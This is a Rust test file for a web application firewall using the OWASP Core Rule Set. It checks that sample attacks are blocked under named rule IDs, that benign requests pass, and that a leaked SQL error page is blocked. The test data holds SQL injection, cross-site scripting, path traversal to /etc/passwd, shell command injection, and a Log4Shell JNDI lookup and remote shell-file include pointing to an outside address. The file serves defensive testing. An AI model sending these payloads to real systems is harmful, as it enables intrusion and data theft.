//! The firewall with the OWASP Core Rule Set: attacks as in the rule set's own regression tests.

use crate::asking::{Asked, Asking, blocked};
use crate::process::AgentProcess;
use agent_protocol::Decision;

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

/// A target, and the rule that it must meet.
const TARGETS: &[(&str, &str)] = &[
    ("/?id=1%27%20or%20%271%27=%271", "942100"),
    (
        "/?id=1%20union%20select%20password%20from%20users",
        "942190",
    ),
    ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "941110"),
    ("/?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "941160"),
    ("/?file=../../../../etc/passwd", "930100"),
    ("/?file=/etc/passwd", "930120"),
    ("/?url=http://192.0.2.1/shell.txt?", "931100"),
    ("/?c=;cat%20/etc/passwd", "932160"),
    ("/?c=$(id)", "932130"),
    ("/?x=%3C?php%20exec(%27ls%27);", "933100"),
    ("/?a=%0d%0aSet-Cookie:%20session=1", "921160"),
    ("/?a=$%7Bjndi:ldap://192.0.2.1/a%7D", "932130"),
];

/// A content type and a body, and the rule that they must meet.
const BODIES: &[(&str, &str, &str)] = &[
    (
        FORM,
        "name=<script>alert(document.cookie)</script>",
        "941110",
    ),
    (FORM, "id=1' or '1'='1", "942100"),
    (
        JSON,
        r#"{"a":{"b":"1 union select password from users"}}"#,
        "942190",
    ),
    (JSON, r#"{"file":"../../../etc/passwd"}"#, "930100"),
];

const BENIGN: &[&str] = &[
    "/",
    "/?q=hello+world",
    "/shop/item/17?page=2&sort=price",
    "/caf%C3%A9",
];

fn post(content_type: &str, body: &'static str) -> Asked<'static> {
    let mut asked = Asked::get("/form")
        .header("content-type", content_type)
        .header("content-length", body.len().to_string());
    asked.method = "POST";
    asked.body = Some(body.as_bytes());
    asked
}

#[test]
fn attacks_are_blocked_and_their_rules_are_only_logged() {
    let agent = AgentProcess::python("waf/waf.py", &[]);
    let mut asking = Asking::connect(&agent.socket());
    for (target, rule) in TARGETS {
        let decision = asking.ask(&Asked::get(target));
        let reason = blocked(&decision);
        assert!(
            reason.split(' ').any(|id| id == *rule),
            "{target}: {reason}"
        );
    }
    for (content_type, body, rule) in BODIES {
        let decision = asking.ask(&post(content_type, body));
        let reason = blocked(&decision);
        assert!(reason.split(' ').any(|id| id == *rule), "{body}: {reason}");
    }
    let scanner = Asked::get("/").header("user-agent", "Nikto/2.5");
    assert!(blocked(&asking.ask(&scanner)).contains("913100"));
}

#[test]
fn ordinary_requests_pass_the_firewall() {
    let agent = AgentProcess::python("waf/waf.py", &[]);
    let mut asking = Asking::connect(&agent.socket());
    for target in BENIGN {
        let decision = asking.ask(&Asked::get(target));
        assert!(
            matches!(decision, Decision::Allow(_)),
            "{target}: {decision:?}"
        );
    }
    for (content_type, body) in [(FORM, "name=Ann&city=Bern"), (JSON, r#"{"name":"Ann"}"#)] {
        let decision = asking.ask(&post(content_type, body));
        assert!(
            matches!(decision, Decision::Allow(_)),
            "{body}: {decision:?}"
        );
    }
}

#[test]
fn a_response_that_leaks_a_database_error_is_blocked() {
    let agent = AgentProcess::python("waf/waf.py", &["--responses"]);
    let mut asking = Asking::connect(&agent.socket());
    asking.ask(&Asked::get("/"));
    let page = b"<html>hello</html>";
    assert!(matches!(asking.ask_response(200, page), Decision::Allow(_)));
    asking.ask(&Asked::get("/"));
    let leak = b"You have an error in your SQL syntax; check the manual that corresponds to your \
        MySQL server version for the right syntax to use";
    let decision = asking.ask_response(500, leak);
    assert!(blocked(&decision).contains("951230"), "{decision:?}");
}
